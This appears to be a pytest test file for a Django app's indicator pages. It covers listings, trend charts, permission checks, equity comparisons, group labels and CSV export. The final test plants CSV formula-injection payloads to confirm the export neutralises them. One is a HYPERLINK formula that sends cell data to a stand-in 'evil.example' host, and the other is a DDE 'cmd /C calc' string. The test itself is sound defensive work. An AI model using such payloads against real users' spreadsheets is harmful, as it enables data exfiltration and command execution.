"""The indicator pages: list, detail with charts, CSV export; access needs the registry view."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User

from backbone.indicators import services
from backbone.indicators.models import Baseline, Target, TurnTheCurve
from tests.indicators.test_compute import (  # noqa: F401  (fixture)
    CALENDAR_WAGES,
    HIGH_EARNER,
    loaded,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def reader(client):
    user = User.objects.create_user("reader", password="pw")
    user.user_permissions.add(Permission.objects.get(codename="view_registry"))
    client.force_login(user)
    return client


def test_pages_show_the_trend_targets_story_and_csv(reader, loaded):  # noqa: F811
    indicator = services.save_indicator(HIGH_EARNER)
    Baseline.objects.create(indicator=indicator, period="2023", value=50.0)
    Target.objects.create(indicator=indicator, method="steady", goal=80.0, goal_year=2026)
    TurnTheCurve.objects.create(
        indicator=indicator, written_on="2026-01-15", story="Hours were cut in 2024.",
        no_cost_idea="Share openings with the college.",
    )  # fmt: skip
    run = services.compute()

    listing = reader.get("/indicators/")
    assert listing.status_code == 200 and HIGH_EARNER.name.encode() in listing.content
    page = reader.get(f"/indicators/{indicator.slug}/")
    body = page.content.decode()
    assert page.status_code == 200
    assert body.count("<svg") == 1  # the trend (no dimensions in this definition)
    assert "Target" in body and "Forecast if nothing changes" in body
    assert "Hours were cut in 2024." in body and "Share openings with the college." in body

    exported = reader.get(f"/indicators/{indicator.slug}/results.csv")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    stored = run.rows.order_by("period")
    assert [(r["period"], int(r["numerator"]), int(r["denominator"])) for r in rows] == [
        (r.period, r.numerator, r.denominator) for r in stored
    ]


@pytest.fixture
def exact_reader(reader):
    """A reader who may see exact values (the data steward's permission): the figures below
    are small enough that the public protection would round or withhold some."""
    user = User.objects.get(username="reader")
    user.user_permissions.add(Permission.objects.get(codename="view_exact_results"))
    return reader


def test_an_incomplete_period_is_not_yet_available_and_the_headline_is_the_latest_complete(
    exact_reader,
    loaded,  # noqa: F811
):
    reader = exact_reader
    indicator = services.save_indicator(CALENDAR_WAGES)
    services.compute()
    body = reader.get(f"/indicators/{indicator.slug}/").content.decode()
    # By hand: in 2023 all 60 workers were paid, those from worker 30 up at least $1,030.
    assert "<strong>50.0%</strong> in 2023 (30 of 60), the latest complete period" in body
    assert "Data as of 2024-06-30." in body
    assert (
        '<th scope="row">2024</th><td colspan="3">not yet available (data through 2024-06-30)'
        in body
    )

    exported = reader.get(f"/indicators/{indicator.slug}/results.csv")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert [(r["period"], r["numerator"], r["value"], r["complete"], r["data_through"])
            for r in rows] == [("2023", "30", "50.0", "true", "2024-06-30"),
                               ("2024", "", "", "false", "2024-06-30")]  # fmt: skip

    listing = reader.get("/indicators/").content.decode()
    row = listing[listing.index(HIGH_EARNER.name) :].split("</tr>")[0]
    assert "2023" in row and "2024" not in row  # the list shows the latest complete period


def test_pages_need_the_registry_permission(client):
    client.force_login(User.objects.create_user("nobody", password="pw"))
    assert client.get("/indicators/").status_code == 403


def test_the_page_shows_each_groups_equity_and_size_against_everyone_or_a_declared_group(
    reader, tmp_path, workspace
):
    """Employer E1 has 40 workers (10 at ≥ $1,030: 25%), E2 has 20 (all: 100%), everyone 60
    (30: 50%). By hand, against everyone: E2's gap is 50 − 100 = −50 points, its ratio 2.00,
    and the index of disparity 100 · (|25 − 50| + |100 − 50|) / 2 / 50 = 75%. Against E1, as
    the definition may declare: E2's gap is −75, its ratio 4.00, the index 100·75/25 = 300%.
    (Exact values: 100% of 20 is coded for readers without person-level rights.)"""
    from backbone.intake import services as intake

    exact = Permission.objects.get(codename="view_exact_results")
    User.objects.get(username="reader").user_permissions.add(exact)
    from backbone.partnership.models import Partner
    from tests.agreements import covering_agreement

    partner = Partner.objects.create(slug="ui", name="UI", partner_type="workforce_board")
    covering_agreement(partner, "ui_wages")
    path = tmp_path / "wages.csv"
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["ssn", "employer_id", "year", "quarter", "wages"])
        for i in range(60):
            writer.writerow([f"{300000000 + i:09d}", "E1" if i < 40 else "E2", 2024, 1, 1000 + i])
    assert intake.ingest(path, partner, "ui_wages", "2024").submission.status == "loaded"

    def e2_row(update: dict) -> tuple[str, str]:
        by_employer = HIGH_EARNER.model_copy(update={"dimensions": ("employer_id",), **update})
        indicator = services.save_indicator(by_employer)
        services.compute()
        body = reader.get(f"/indicators/{indicator.slug}/").content.decode()
        return body, body[body.index('<th scope="row">E2</th>') :].split("</tr>")[0]

    body, row = e2_row({})
    assert "against Everyone" in body and "index of disparity 75.0%" in body
    assert "<td>100.0</td><td>20</td><td>-50.0</td><td>2.00</td>" in row
    body, row = e2_row({"reference_groups": {"employer_id": "E1"}})
    assert "against E1" in body and "index of disparity 300.0%" in body
    assert "<td>100.0</td><td>20</td><td>-75.0</td><td>4.00</td>" in row


def test_an_outcome_page_shows_each_indicators_trend_story_and_milestones(reader, loaded):  # noqa: F811
    from backbone.indicators.models import Milestone
    from backbone.partnership.models import SharedOutcome

    outcome = SharedOutcome.objects.create(slug="living-wage", name="Living-wage careers")
    indicator = services.save_indicator(HIGH_EARNER, outcome=outcome)
    TurnTheCurve.objects.create(
        indicator=indicator, written_on="2026-02-01", story="A plant closed."
    )
    Milestone.objects.create(outcome=outcome, date="2026-03-01", title="Employer compact signed")
    run = services.compute()
    latest = run.rows.order_by("-period").first()

    listing = reader.get("/indicators/").content.decode()
    assert "/indicators/outcomes/living-wage/" in listing
    body = reader.get("/indicators/outcomes/living-wage/").content.decode()
    assert body.count("<svg") == 1 and "A plant closed." in body
    assert "Employer compact signed" in body
    assert f"({latest.numerator} of {latest.denominator})" in body


LABELLED = [  # (period, dimension, group, numerator, denominator)
    ("2024", "overall", "all", 60, 120),
    ("2024", "person_demographics.english_learner", "true", 10, 40),
    ("2024", "person_demographics.english_learner", "false", 50, 80),
    ("2024", "housing.project_type", "0", 20, 50),
    ("2024", "housing.project_type", "13", 40, 70),
    ("2024", "school_enrollment.school_id", "255901001", 30, 60),
    ("2024", "school_enrollment.school_id", "255901999", 30, 60),
]


def test_groups_show_words_and_the_csv_keeps_each_code_beside_its_label(reader):
    """English learner status as words, HUD's project-type names, the school the district named
    (Grand Bend High School, as its Ed-Fi file says) and a school it did not name by number."""
    from backbone.indicators.models import ComputeRun, Indicator, Result
    from backbone.intake.models import CodeName, Submission
    from backbone.partnership.models import Partner

    district = Partner.objects.create(
        slug="gb", name="Grand Bend ISD", partner_type="school_district"
    )
    submission = Submission.objects.create(
        partner=district, contract="edfi", original_name="gb.zip", sha256="0" * 64, size=1,
        archive_path="gb.zip", status=Submission.Status.LOADED,
    )  # fmt: skip
    CodeName.objects.create(
        submission=submission, column="school_id", code="255901001", name="Grand Bend High School"
    )
    indicator = Indicator.objects.create(
        slug="labelled", name="Labelled", unit="percent", definition={"slug": "labelled"}
    )
    run = ComputeRun.objects.create(indicators=1, results=len(LABELLED))
    Result.objects.bulk_create(
        Result(run=run, indicator=indicator, definition_version=1, period=p, dimension=dim,
               group_value=g, numerator=n, denominator=d, value=100 * n / d)
        for p, dim, g, n, d in LABELLED
    )  # fmt: skip

    body = reader.get("/indicators/labelled/").content.decode()
    for heading in ("By English learner status", "By housing project type", "By school"):
        assert heading in body
    for group in (
        "English learner",
        "Not an English learner",
        "PH – Rapid Re-Housing",
        "Emergency Shelter – Entry Exit",
        "Grand Bend High School",
        "School 255901999",
    ):
        assert f'<th scope="row">{group}</th>' in body or f">{group}</text>" in body, group
    assert "englishlearner" not in body and "persondemographics" not in body
    for code in ("true", "false", "0", "13", "255901001"):
        assert f'<th scope="row">{code}</th>' not in body, code
    for code in ("true", "false", "255901001"):  # (0 and 13 may be axis ticks)
        assert f">{code}</text>" not in body, code

    exported = reader.get("/indicators/labelled/results.csv").content.decode("utf-8-sig")
    rows = {
        (r["dimension"], r["group"]): r["group_label"]
        for r in csv.DictReader(io.StringIO(exported))
    }
    assert rows[("housing.project_type", "13")] == "PH – Rapid Re-Housing"
    assert rows[("school_enrollment.school_id", "255901001")] == "Grand Bend High School"
    assert rows[("person_demographics.english_learner", "false")] == "Not an English learner"
    assert rows[("overall", "all")] == "Everyone"


def test_formula_labels_and_groups_reach_the_results_csv_as_text(reader):
    """A school named by a partner's file and a group code a spreadsheet would run are quoted;
    the figures, a negative change included, stay numbers."""
    from backbone.indicators.models import ComputeRun, Indicator, Result
    from backbone.intake.models import CodeName, Submission
    from backbone.partnership.models import Partner

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    district = Partner.objects.create(slug="gb", name="GB ISD", partner_type="school_district")
    submission = Submission.objects.create(
        partner=district, contract="edfi", original_name="gb.zip", sha256="1" * 64, size=1,
        archive_path="gb.zip", status=Submission.Status.LOADED,
    )  # fmt: skip
    CodeName.objects.create(submission=submission, column="school_id", code="1", name=formula)
    indicator = Indicator.objects.create(
        slug="formulas", name="Formulas", unit="count", definition={"slug": "formulas"}
    )
    run = ComputeRun.objects.create(indicators=1, results=3)
    rows = [("overall", "all", -40.0), ("school_enrollment.school_id", "1", 30.0),
            ("program", "@SUM(1+9)*cmd|' /C calc'!A0", 30.0)]  # fmt: skip
    Result.objects.bulk_create(
        Result(run=run, indicator=indicator, definition_version=1, period="2024", dimension=dim,
               group_value=g, numerator=60, denominator=120, value=v)
        for dim, g, v in rows
    )  # fmt: skip
    exported = reader.get("/indicators/formulas/results.csv").content.decode("utf-8-sig")
    found = {(r[1], r[2]): r for r in list(csv.reader(io.StringIO(exported)))[1:]}
    assert found[("school_enrollment.school_id", "1")][3] == "'" + formula
    assert found[("program", "'@SUM(1+9)*cmd|' /C calc'!A0")][2].startswith("'@")
    assert found[("overall", "all")][6] == "-40.0"
